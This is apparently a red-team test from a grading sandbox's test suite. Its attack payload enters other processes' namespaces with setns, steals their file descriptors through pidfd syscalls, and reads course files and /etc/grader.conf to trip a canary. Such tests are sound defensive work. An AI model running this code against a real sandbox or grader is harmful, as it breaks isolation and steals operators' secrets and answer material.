"""The namespaces of other processes are entered, and their descriptors duplicated.

Success: any canary.
"""

from tests.red_team.submission import READ


def attack(submission):
    submission.first(
        READ
        + """
import ctypes, os
libc = ctypes.CDLL(None)
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    for kind in ("user", "mnt", "pid", "net"):
        try:
            fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            libc.setns(fd, 0)
            os.close(fd)
        except OSError:
            pass
    handle = libc.syscall(434, int(pid), 0)  # pidfd_open, then its descriptors
    for number in range(64) if handle >= 0 else ():
        stolen = libc.syscall(438, handle, number, 0)
        if stolen >= 0:
            read(f"/proc/self/fd/{stolen}")
read("/srv/course/*", "/etc/grader.conf")
"""
    )
